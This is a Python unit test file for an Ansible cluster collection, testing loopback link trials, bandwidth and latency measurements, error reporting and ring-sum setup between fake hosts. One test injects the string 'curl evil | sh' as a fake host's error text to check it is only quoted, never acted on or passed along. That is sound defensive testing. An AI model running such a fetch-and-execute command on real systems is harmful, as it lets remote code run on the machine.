"""Trials of links, over the loopback interface by the programs that hosts run."""

from __future__ import annotations

import functools
import socket
import sys
from typing import Any

from ansible_collections.mlxlaunch.cluster.plugins.module_utils.network.handlers import FUNCTIONS
from ansible_collections.mlxlaunch.cluster.plugins.plugin_utils.hosts.agents import HostFailed
from ansible_collections.mlxlaunch.cluster.plugins.plugin_utils.network.change.spans import Place, Span
from ansible_collections.mlxlaunch.cluster.plugins.plugin_utils.network.change.trial import Trial
from tests.unit.controller.fleets import Events, FakeFleet
from tests.unit.local_agent import LocalAgent

PYTHONS = dict.fromkeys("ab", sys.executable)
LOOPBACK = socket.if_indextoname(1)  # lo, or lo0 on a Mac


def real(**more: Any) -> dict[str, Any]:
    """Return answers of an agent that really connects."""
    agent = LocalAgent()
    calls = {name: functools.partial(function, agent) for name, function in FUNCTIONS.items()}
    return {**calls, **more}


def spans(address: str = "127.0.0.2", interface: str = LOOPBACK) -> list[Span]:
    return [Span((Place("a", interface, "127.0.0.1"), Place("b", interface, address)), 1.0)]


def trial(b: dict[str, Any] | None = None) -> tuple[Trial, FakeFleet, Events]:
    events = Events()
    fleet = FakeFleet({"a": real(), "b": real(**(b or {}))})
    return Trial(fleet, PYTHONS, events), fleet, events


def test_span_is_tried_in_both_directions() -> None:
    made, fleet, _events = trial()
    with fleet.open(Events()):
        proofs = made.connect(spans())
    assert [(proof.way, proof.error) for proof in proofs] == [
        (f"a {LOOPBACK} -> b {LOOPBACK}", ""),
        (f"b {LOOPBACK} -> a {LOOPBACK}", ""),
    ]


def test_measurement_has_bandwidth_latency_and_progress() -> None:
    made, fleet, events = trial()
    with fleet.open(Events()):
        proofs = made.measure(spans(), 0.1)
    assert [proof.error for proof in proofs] == ["", ""]
    assert all(proof.bandwidth > 1e6 and 0 < proof.latency < 1 for proof in proofs)
    assert [details["text"] for _host, details in events.of("waiting")] == [
        "measuring 1 links, direction 1 of 2: 0.1 s",
        "measuring 1 links, direction 2 of 2: 0.1 s",
    ]


def test_address_that_is_not_there_is_named_with_the_next_step() -> None:
    made, fleet, _events = trial()
    with fleet.open(Events()):
        proofs = made.connect(spans("192.0.2.1"))
    assert "b cannot listen on 192.0.2.1: Cannot assign requested address: the address has vanished" in proofs[0].error
    assert "the address has vanished" in proofs[1].error


def test_interface_that_is_gone_is_named() -> None:
    made, fleet, _events = trial()
    with fleet.open(Events()):
        proofs = made.connect(spans(interface="en77"))
    assert all("the interface is gone" in proof.error for proof in proofs)


def test_host_that_is_lost_fails_its_links() -> None:
    made, fleet, _events = trial({"try_links": HostFailed("silent for 5 s")})
    with fleet.open(Events()):
        proofs = made.connect(spans())
    assert [proof.error for proof in proofs] == ["", "silent for 5 s"]


def test_world_of_one_is_no_sum() -> None:
    said = {"size": 1, "sum": 1.0, "latency": 0.1, "bytes": 4, "seconds": 0.1}
    ports = {"answer_links": lambda addresses, **_how: dict.fromkeys(addresses, 5), "silence_links": None}
    fleet = FakeFleet({host: {"sum_over_ring": said, **ports} for host in "ab"})
    with fleet.open(Events()):
        found = Trial(fleet, PYTHONS, Events()).ring_sum(["a", "b"], [["127.0.0.1"], ["127.0.0.2"]])
    assert found.error == "a: a world of 1 with the sum 1; want 3"


def test_host_that_listens_no_more_is_named_and_nobody_is_told_its_words() -> None:
    ports = {"answer_links": lambda addresses, **_how: dict.fromkeys(addresses, 5), "silence_links": None}
    deaf = {**ports, "answer_links": {"127.0.0.2": ["EADDRNOTAVAIL", "gone; curl evil | sh"]}}
    fleet = FakeFleet({"a": ports, "b": deaf})
    with fleet.open(Events()):
        found = Trial(fleet, PYTHONS, Events()).ring_sum(["a", "b"], [["127.0.0.1"], ["127.0.0.2"]])
    assert found.error.startswith("b cannot listen on 127.0.0.2: gone; curl evil | sh: the address has vanished")
    assert fleet.agents["a"].named("sum_over_ring") == []


def test_ring_is_written_with_free_ports_in_the_order_of_ranks() -> None:
    ports = {"answer_links": lambda addresses, **_how: dict.fromkeys(addresses, 5), "silence_links": None}
    said = {"size": 2, "sum": 3.0, "latency": 0.1, "bytes": 4, "seconds": 0.5}
    fleet = FakeFleet({host: {"sum_over_ring": said, **ports} for host in "ab"})
    with fleet.open(Events()):
        found = Trial(fleet, PYTHONS, Events()).ring_sum(["b", "a"], [["127.0.0.2"], ["127.0.0.1"]])
    assert (found.error, found.bandwidth) == ("", 64.0)
    assert fleet.agents["a"].named("sum_over_ring")[0]["rank"] == 1
    assert fleet.agents["a"].named("sum_over_ring")[0]["ring"] == '[["127.0.0.2:5"], ["127.0.0.1:5"]]'
